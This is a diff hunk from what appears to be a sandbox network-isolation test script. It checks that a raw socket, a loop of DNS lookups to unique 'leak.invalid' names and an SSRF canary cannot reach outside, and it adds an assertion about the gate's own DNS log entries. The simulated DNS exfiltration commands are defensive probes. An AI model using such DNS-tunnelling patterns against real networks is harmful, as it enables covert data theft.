@@ -79,6 +79,7 @@ out=$(s "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RA
 like "$out" "Network is unreachable|PermissionError|not permitted" "a raw socket gets nothing out"
 s 'for i in $(seq 1 40); do getent hosts "exfil$i-$RANDOM$RANDOM.leak.invalid"; done; dig +tries=1 +time=1 aaaa-$RANDOM.leak.invalid' >/dev/null
 unlike "$(cat "$INET_DNS_LOG")" "leak\.invalid" "DNS exfiltration with unique labels never reaches the internet's DNS"
+like "$(cat "$INET_DNS_LOG")" "query\[A\] origin\.test" "... whose log does show the gate's own lookups (twin)"
 
 # SSRF from inside: a canary on the host's loopback never sees anything.
 : > "$TOP/canary.log"
